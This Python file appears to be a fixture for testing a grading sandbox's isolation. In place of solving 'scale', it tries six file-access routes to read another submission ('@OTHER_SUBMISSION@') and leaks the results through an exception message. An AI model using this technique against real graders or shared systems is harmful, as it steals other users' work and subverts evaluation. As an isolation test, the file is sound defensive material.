import ctypes
import io
import mmap
import os

PATH = "@OTHER_SUBMISSION@"
LIBC = ctypes.CDLL(None, use_errno=True)


def by_descriptor():
    descriptor = os.open(PATH, os.O_RDONLY)
    return os.read(descriptor, 500)


def by_open_at():
    folder = os.open(os.path.dirname(PATH), os.O_RDONLY | os.O_DIRECTORY)
    return os.read(os.open(os.path.basename(PATH), os.O_RDONLY, dir_fd=folder), 500)


def by_path_only():
    descriptor = os.open(PATH, os.O_PATH)
    return open(f"/proc/self/fd/{descriptor}", "rb").read()


def by_libc():
    descriptor = LIBC.open(PATH.encode(), 0)
    assert descriptor >= 0, os.strerror(ctypes.get_errno())
    buffer = ctypes.create_string_buffer(500)
    LIBC.read(descriptor, buffer, 500)
    return buffer.value


def by_map():
    with io.open(PATH, "rb") as file:
        return mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)[:500]


def by_listing():
    return [entry.name for entry in os.scandir(os.path.dirname(os.path.dirname(PATH)))]


def loot():
    found = []
    for way in (by_descriptor, by_open_at, by_path_only, by_libc, by_map, by_listing):
        try:
            found.append(way())
        except BaseException as trouble:
            found.append(repr(trouble)[:60])
    return found


def scale(x, factor):
    raise ValueError(f"loot: {loot()}")
